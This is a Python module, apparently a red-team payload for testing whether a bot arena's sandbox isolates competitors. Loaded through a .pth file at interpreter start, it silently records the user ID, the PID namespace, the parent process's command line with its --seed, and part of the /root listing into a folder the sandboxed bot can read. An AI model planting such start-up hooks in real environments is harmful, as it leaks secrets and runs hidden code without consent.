"""The payload of ``redteam_venv_escape.py``: a module a competitor ships in the virtual
environment of their Python bot (here imported by a ``.pth`` file in its site-packages, which
Python runs at every start of that interpreter; a malicious dependency's wheel can bring one).

It does nothing where it cannot write (inside a sandbox the venv is read-only). Anywhere else it
runs as whoever started the interpreter: it writes, into a folder of the venv that the
sandboxed bot will read, who it ran as, its PID namespace, its parent's command line (the
arena's, with ``--seed``) and whether it could list ``/root``.

Standard library only; it must never raise (a ``.pth`` line that raises prints a warning).
"""

import os

try:
    _loot = os.path.join(os.path.dirname(os.path.abspath(__file__)), "redteam_loot")
    if os.access(os.path.dirname(_loot), os.W_OK):
        os.makedirs(_loot, exist_ok=True)
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as _handle:
            _parent = _handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
        try:
            _root = ",".join(sorted(os.listdir("/root"))[:5])
        except OSError as _exc:
            _root = f"unreadable ({_exc.strerror})"
        with open(os.path.join(_loot, f"{os.getpid()}.txt"), "w") as _out:
            _out.write(f"uid={os.getuid()}\n")
            _out.write(f"pidns={os.readlink('/proc/self/ns/pid')}\n")
            _out.write(f"root={_root}\n")
            _out.write(f"parent={_parent}\n")
except Exception:  # never disturb the interpreter's start
    pass
